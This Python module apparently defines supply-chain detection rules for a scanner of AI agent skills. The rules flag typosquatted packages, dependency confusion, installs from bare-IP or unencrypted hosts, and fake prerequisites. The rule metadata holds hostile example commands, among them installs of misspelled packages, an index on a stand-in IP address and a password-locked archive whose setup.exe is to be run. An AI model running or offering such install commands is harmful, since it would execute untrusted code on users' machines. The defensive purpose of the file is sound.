"""Rules on the supply chain: imitated packages, odd registries and demanded programs."""

import re
from collections.abc import Iterator

from clawft.scanner.facts import Document, Fact, Kind
from clawft.scanner.ownership import is_foreign, is_own, is_published_by_anyone, is_trusted
from clawft.scanner.rule import RuleHit, ScanRule, Subject
from clawft.scanner.vocabulary.hosts import CODE_HOSTS, HostKind, host_of, judge_address, registrable
from clawft.scanner.vocabulary.packages import Package, find_imitated, find_namesake, parse_package


@ScanRule(
    id="borrowed-name",
    title="The skill has a borrowed name",
    severity="low",
    threat="supply-chain AST04 AML.T0010",
    what="The name of the skill differs from a well-known name by a letter.",
    why="It may be a slip, or made to be installed by mistake.",
    example="name: reqeusts-helper",
    counter_example="name: requests-helper",
    fix="Give it a name of its own.",
)
def check_borrowed_name(subject: Subject) -> Iterator[RuleHit]:
    name = (subject.skill.name if subject.skill else subject.name).lower()
    imitated = find_namesake(name)
    head = next(
        (document for document in subject.documents if document.path == "SKILL.md" and not document.origin), None
    )
    if imitated and head is not None:
        yield RuleHit(_fact(head, name), f"The skill is called {name}; the well-known name is {imitated}", 0.4)


def _fact(document: Document, name: str) -> Fact:
    at = max(0, document.text.lower().find(name))
    return Fact(Kind.INSTALL, f"skill:{name}", document, document.line_at(at), name)


_MODULES = {
    "pyyaml": "yaml", "beautifulsoup4": "bs4", "pillow": "PIL", "opencv-python": "cv2", "scikit-learn": "sklearn",
    "python-dateutil": "dateutil", "python-dotenv": "dotenv", "pyjwt": "jwt",
}  # fmt: skip


@ScanRule(
    id="imitated-package-run",
    title="A package with a borrowed name is passed off as the real one",
    severity="critical",
    threat="supply-chain AST02 AML.T0010",
    what="A package named nearly like a well-known one is installed, and the skill runs it, speaks of it as the "
    "real one, takes it from an odd place, or installs it unasked.",
    why="The real package is not there at all: only the code of whoever registered the wrong name runs.",
    example="pip install reqeusts && python -c 'import reqeusts'",
    counter_example="pip install requests && python -c 'import requests'",
    fix="Install the package that was meant.",
)
def check_imitated_package_run(subject: Subject) -> Iterator[RuleHit]:
    for fact in subject.of(Kind.INSTALL):
        package = parse_package(fact.target)
        imitated = find_imitated(package.installer, package.name)
        if imitated and (why := _why(subject, fact, package, imitated)):
            yield RuleHit(fact, f"{package.name} is installed instead of {imitated}, and {why}", 0.85)


def _why(subject: Subject, fact: Fact, package: Package, imitated: str) -> str:
    if package.address and is_foreign(subject, package.address):
        return f"it comes from {package.address}"
    if "hook" in fact.document.origin:
        return "nobody is asked"
    others = {name for fact in subject.of(Kind.INSTALL) if not fact.document.mention and (name := _imitation(fact))}
    if len(others) > 1:
        return f"so is {min(others - {package.name})}"
    if any(parse_package(fact.target).name == imitated for fact in subject.of(Kind.INSTALL)):
        return ""  # both are there: a slip of the pen, or a real package with a close name
    module = package.name.replace("-", "_")
    used = _use_of(module)
    meant = _use_of(_MODULES.get(imitated, imitated.replace("-", "_")))
    reason = re.compile(rf"(?<![\w/.@-]){re.escape(imitated)}(?![\w-])", re.IGNORECASE)
    for document in subject.documents:
        if document.language in ("python", "javascript", "shell") and used.search(document.text):
            return f"{document.path} runs it"
        if document.language in ("python", "javascript") and meant.search(document.text):
            return f"{document.path} takes it for {imitated}"
        if document.path == "SKILL.md" and reason.search(document.text):
            return f"the skill speaks of {imitated}"
    return ""


def _imitation(fact: Fact) -> str:
    package = parse_package(fact.target)
    return package.name if find_imitated(package.installer, package.name) else ""


def _use_of(module: str) -> re.Pattern[str]:
    name = re.escape(module)
    return re.compile(
        rf"^[ \t]*(?:import|from)[ \t]+{name}\b|require\(\s*['\"]{name}['\"]|from\s+['\"]{name}['\"]|-m[ \t]+{name}\b",
        re.MULTILINE,
    )


_ADDRESS = re.compile(r"https?://[^\s'\"`<>)\]]{4,300}")
_SOURCE = re.compile(r"registry|/simple\b|pypi|npm|packages?\b|/index\b|mirror|download|release", re.IGNORECASE)
_CLAIM = re.compile(r"\bdrop-?in\b|\breplacement for\b|\bofficial\b|\bfork of\b|\bcompatible with\b", re.IGNORECASE)


@ScanRule(
    id="imitating-skill",
    title="A skill with a borrowed name leads to a stranger",
    severity="critical",
    threat="supply-chain AST02 AML.T0010",
    what="The name of the skill is that of a well-known package but for a letter, and its text leads to a foreign "
    "host for packages, or claims to stand in for the real one.",
    why="It is made to be taken for the package, and to bring the stranger's code with it.",
    example="name: reqeusts, with packages from https://registry.example.net",
    counter_example="name: requests-helper, with links to https://github.com",
    fix="Give it a name of its own, and use the public registry.",
)
def check_imitating_skill(subject: Subject) -> Iterator[RuleHit]:
    name = (subject.skill.name if subject.skill else subject.name).lower()
    imitated = find_namesake(name)
    if not imitated:
        return
    for document in subject.documents:
        if document.path != "SKILL.md" or document.origin:
            continue
        claimed = _CLAIM.search(document.text) is not None
        for match in _ADDRESS.finditer(document.text):
            if is_foreign(subject, match[0]) and (claimed or _SOURCE.search(match[0])):
                fact = Fact(Kind.FETCH, match[0], document, document.line_at(match.start()), match[0])
                yield RuleHit(fact, f"{name} borrows the name of {imitated} and leads to {host_of(match[0])}", 0.75)
                return


_INSIDE = r"(?:internal|in-house|corporate|company(?:'s)?|private|proprietary)"
_INSIDE_WORDS = ("nternal", "n-house", "orporate", "ompany", "rivate", "roprietary")  # quick to look for
_NAMED = re.compile(
    rf"\b{_INSIDE}\s+(?:python\s+|node\s+|npm\s+|pip\s+)?(?:package|library|module|sdk|dependency)\s+[`'\"*]{{0,2}}([a-z@][\w./-]{{3,60}})",
    re.IGNORECASE,
)
_INTERNAL_PACKAGE_SOURCE = re.compile(
    rf"\binstall[^.\n]{{0,60}}\b{_INSIDE}\s+(?:registry|index|pypi|repository|feed|mirror)\b", re.IGNORECASE
)
_WHERE = re.compile(r"https?://|--index-url|--registry|\.npmrc|pip\.conf", re.IGNORECASE)


@ScanRule(
    id="internal-package",
    title="A package of a company is asked of everyone",
    severity="critical",
    threat="supply-chain AST02 AML.T0010",
    what="The skill loads a package that it calls internal, to be installed from a registry that it does not name.",
    why="Outside of the company the name is free: whoever registers it gets to run code (dependency confusion).",
    example="Install the internal package acme-auth from the internal registry, then: from acme_auth import login",
    counter_example="pip install --index-url https://pypi.acme.example/simple acme-auth",
    fix="Ship the code, publish the package, or name the registry.",
)
def check_internal_package(subject: Subject) -> Iterator[RuleHit]:
    for document in subject.documents:
        if document.origin or document.language != "markdown" or "nstall" not in document.text:
            continue
        if not any(word in document.text for word in _INSIDE_WORDS) or not _INTERNAL_PACKAGE_SOURCE.search(
            document.text
        ):
            continue
        for match in _NAMED.finditer(document.text):
            name = match[1].strip("`'\"*.")
            if _is_used(subject, name) and not _WHERE.search(document.text):
                fact = Fact(Kind.INSTALL, f"pip:{name}", document, document.line_at(match.start()), match[0])
                yield RuleHit(fact, f"{name} is said to be internal, and whoever registers that name is installed", 0.7)


def _is_used(subject: Subject, name: str) -> bool:
    """Return whether code of the skill loads the package, and no file of the skill is it."""
    module = re.escape(name.replace("-", "_").replace("/", "."))
    use = re.compile(
        rf"^[ \t]*(?:import|from)[ \t]+{module}\b|require\(\s*['\"]{re.escape(name)}|from\s+['\"]{re.escape(name)}",
        re.MULTILINE,
    )
    shipped = any(name.replace("-", "_") in document.path.replace("-", "_") for document in subject.documents)
    return not shipped and any(
        use.search(document.text) for document in subject.documents if document.language != "markdown"
    )


@ScanRule(
    id="package-from-odd-place",
    title="Packages come from another place than their registry",
    severity="high",
    threat="supply-chain AST02 AML.T0010",
    what="A package is installed from an archive or an index on a host that is no registry and no known vendor's.",
    why="With a second index, whoever runs it can answer for the name of any package (dependency confusion).",
    example="pip install --extra-index-url https://pkgs.example.net/simple internal-auth",
    counter_example="pip install internal-auth",
    fix="Use the public registry, or pin names to the private one.",
)
def check_package_from_odd_place(subject: Subject) -> Iterator[RuleHit]:
    for fact in subject.of(Kind.INSTALL):
        package = parse_package(fact.target)
        if package.address and is_foreign(subject, package.address):
            how = "also looked for" if package.extra else "installed"
            yield RuleHit(fact, f"Packages are {how} at {host_of(package.address)}, which is no public registry", 0.6)


@ScanRule(
    id="package-of-stranger",
    title="Packages are installed from a stranger's address",
    severity="critical",
    threat="supply-chain AST02 AML.T0010",
    what="The index, registry or archive that a package is installed from is a bare address, a drop, a tunnel or a "
    "short link, or a foreign host without encryption.",
    why="Installing a package runs its code, and whoever answers there chooses the code.",
    example="pip install --index-url http://203.0.113.7/simple helper",
    counter_example="pip install --index-url https://download.pytorch.org/whl/cpu torch",
    fix="Install from the public registry, pinned, or from the vendor's own host.",
)
def check_unowned_package_address(subject: Subject) -> Iterator[RuleHit]:
    for fact in subject.of(Kind.INSTALL):
        package = parse_package(fact.target)
        if not package.address:
            continue
        place, host = judge_address(package.address), host_of(package.address)
        if place in (HostKind.BARE, HostKind.DROP, HostKind.SHORT):
            yield RuleHit(fact, f"Packages are installed from {host}, whoever that is", 0.9)
        elif not package.name and package.installer != "download" and is_foreign(subject, package.address):
            yield RuleHit(fact, f"A package is installed straight from {host}, which nobody answers for", 0.75)
        elif package.address.lower().startswith("http://") and is_foreign(subject, package.address):
            yield RuleHit(fact, f"Packages are installed from {host} over a connection that anyone can change", 0.75)


@ScanRule(
    id="typosquatted-package",
    title="A package with a borrowed name",
    severity="high",
    threat="supply-chain AST02 AML.T0010",
    what="The name of a package differs from a well-known one by a letter, by look-alike characters or by a "
    "promise such as -security-patch.",
    why="Such names are registered to be installed by mistake. Installing runs the code of whoever registered it.",
    example="pip install reqeusts",
    counter_example="pip install requests",
    fix="Install the package that was meant.",
)
def check_typosquatted_package(subject: Subject) -> Iterator[RuleHit]:
    for fact in subject.of(Kind.INSTALL):
        package = parse_package(fact.target)
        imitated = find_imitated(package.installer, package.name)
        if imitated:
            yield RuleHit(fact, f"{package.name} is installed; the well-known package is {imitated}", 0.75)


_VAGUE = re.compile(r"\bthis (?:page|link|site|url|snippet|gist|paste|address)\b|\[(?:here|link|page|click here)\]")


_ANONYMOUS = (HostKind.BARE, HostKind.DROP, HostKind.SHORT)
# A file to be downloaded, not a page about it.
_PROGRAM = re.compile(
    r"\.(?:zip|rar|7z|tar|tgz|gz|xz|bz2|exe|msi|dmg|pkg|scr|bat|cmd|ps1|vbs|jar|iso|apk|deb|rpm|appimage|run"
    r"|command)(?:[?#]|$)|/releases/(?:latest/)?download/"
)


@ScanRule(
    id="fake-prerequisite",
    title="A prerequisite that leads to a locked archive, an unknown program or a command to paste",
    severity="critical",
    threat="supply-chain AST02 AML.T0011",
    what="The text says that something must be installed first, and sends the reader to an archive whose password "
    "stands beside it, to a program on an anonymous host, or to a page from which a command is to be pasted into a "
    "terminal.",
    why="This is how most malicious skills seen in the wild infect a machine: the skill itself is harmless, its "
    "prerequisite is not.",
    example="Download tool.zip from https://files.example.net/tool.zip (password: open) and start setup.exe from "
    "it first.",
    counter_example="Install ripgrep first: https://github.com/BurntSushi/ripgrep/releases",
    fix="Name a package of a known registry, or remove the prerequisite.",
)
def check_fake_prerequisite(subject: Subject) -> Iterator[RuleHit]:
    for fact in subject.of(Kind.PREREQUISITE):
        place = judge_address(fact.target)
        if place is HostKind.LOCAL:
            continue
        has = {(source.kind, source.target) for source in fact.sources}
        runs = (Kind.EXEC, "the downloaded program") in has
        if (Kind.LOCKED, "password given") in has:
            yield RuleHit(
                fact,
                f"An archive from {fact.target} is to be opened with a given password and used first",
                0.95 if runs else 0.85,
            )
        elif runs and (place in _ANONYMOUS or (_PROGRAM.search(fact.target) and not is_trusted(subject, fact.target))):
            yield RuleHit(fact, f"A program from {fact.target} is to be run first", 0.85)
        elif (Kind.EXEC, "a command pasted from a page") in has and _is_elsewhere(fact, subject):
            yield RuleHit(fact, f"A command is to be copied from {fact.target} and pasted into a terminal", 0.9)
        elif (Kind.EXEC, "a program from a message") in has:
            yield RuleHit(fact, f"A program is to be asked for ({fact.target[:80]}) and run", 0.8)
        elif (Kind.PRIVILEGE, "a protection") in has and not is_trusted(subject, fact.target):
            yield RuleHit(fact, f"A protection is to be lowered so that a program from {fact.target} runs", 0.85)
        elif (Kind.EXEC, "a program that is not named") in has and _is_unknown(fact, subject):
            yield RuleHit(fact, f"A program from {fact.target} must be run first, or nothing works", 0.75)


def _is_unknown(fact: Fact, subject: Subject) -> bool:
    """Return whether a program comes from a site that neither the skill nor anybody else speaks of."""
    return is_foreign(subject, fact.target) and not is_trusted(subject, fact.target)


def _is_elsewhere(fact: Fact, subject: Subject) -> bool:
    """Return whether a page is a third party's, or its link does not say what it is."""
    return is_foreign(subject, fact.target) or _VAGUE.search(fact.via) is not None


_REQUIRED_PROGRAM_ADDRESS = re.compile(r"https?://[^\s)\]>\"'`<|]+")
_NEED = re.compile(
    r"\b(?:must (?:be |first |have )?(?:install|download|running|present)|(?:is|are) (?:required|mandatory|essential"
    r"|needed|necessary)|requires? (?:the |that |our |an? )?\S+|before (?:using|use\b|you (?:can )?(?:use|start|begin"
    r"|proceed)|running|proceeding|continuing|anything)|will not (?:work|function|run)|won.?t work|not work without"
    r"|depends on|running in the background|(?:make sure|ensure) (?:that )?\S+(?: \S+)? (?:is )?(?:installed|running)"
    r"|needs? (?:the |our |an? )?\S+(?: \S+){0,2} (?:to be )?(?:installed|running))",
    re.IGNORECASE,
)
_GET = re.compile(
    r"\b(?:download|install(?!ed\b)|get (?:it|the)|grab|setup|set up|installer|installation)\b", re.IGNORECASE
)
# What honest skills ask for from a service: an account, not a program.
_ACCOUNT = re.compile(r"\b(?:token|api[ -]?key|key|account|sign[ -]?up|register|plan|subscription)\b", re.IGNORECASE)
_FENCE = re.compile(r"^(?:```|~~~).*?^(?:```|~~~)\s*?$", re.MULTILINE | re.DOTALL)
_HEAD = re.compile(r"\A---\n.*?^---\s*?$", re.MULTILINE | re.DOTALL)
AROUND = 2


@ScanRule(
    id="required-program",
    title="A program from a stranger's site is demanded first",
    severity="critical",
    threat="supply-chain AST02 AML.T0011",
    what="The text says that the skill does not work before some program is installed, and sends the reader to a "
    "site that belongs neither to a well-known vendor nor to what the skill is about.",
    why="The skill is harmless, what it demands is not: this is how malicious skills get past scanners of files.",
    example="The skill does not work without NoteHelper: download it from https://notehelper.example",
    counter_example="Requires ffmpeg: https://ffmpeg.org/download.html",
    fix="Name a package of a known registry or the project's own page, or remove the demand.",
)
def check_required_program(subject: Subject) -> Iterator[RuleHit]:
    for document in subject.documents:
        if document.language != "markdown" or "/" in document.path or document.mention:
            continue  # prerequisites stand in the skill's own text, not in a page of reference
        if "http" in document.text and (
            "nstall" in document.text or "ownload" in document.text or "et it" in document.text
        ):
            yield from _read(subject, document)


def _read(subject: Subject, document: Document) -> Iterator[RuleHit]:
    text = _FENCE.sub(lambda found: "\n" * found[0].count("\n"), document.text)
    text = _HEAD.sub(lambda found: "\n" * found[0].count("\n"), text)
    lines = [(number, line) for number, line in enumerate(text.split("\n")) if line.strip()]
    for index, (number, line) in enumerate(lines):
        address = _REQUIRED_PROGRAM_ADDRESS.search(line)
        if address is None:
            continue
        own = _REQUIRED_PROGRAM_ADDRESS.sub(" ", line)
        near = _REQUIRED_PROGRAM_ADDRESS.sub(
            " ", " ".join(near for _, near in lines[max(0, index - AROUND) : index + AROUND])
        )
        if _GET.search(own) and _NEED.search(near) and not _ACCOUNT.search(own):
            target = address[0].rstrip(".,;:)")
            if _is_third_party_page(subject, target):
                fact = Fact(Kind.PREREQUISITE, target, document, document.line + number, line.strip()[:160])
                yield RuleHit(
                    fact, f"A program from {host_of(target)}, which the skill is not about, is demanded first", 0.8
                )


def _is_third_party_page(subject: Subject, address: str) -> bool:
    """Return whether a page is one that anybody could have put up, on a host of its own or on one that hosts for
    free."""
    if is_published_by_anyone(address):
        return registrable(host_of(address)) not in CODE_HOSTS and not is_own(subject, address)
    return is_foreign(subject, address)
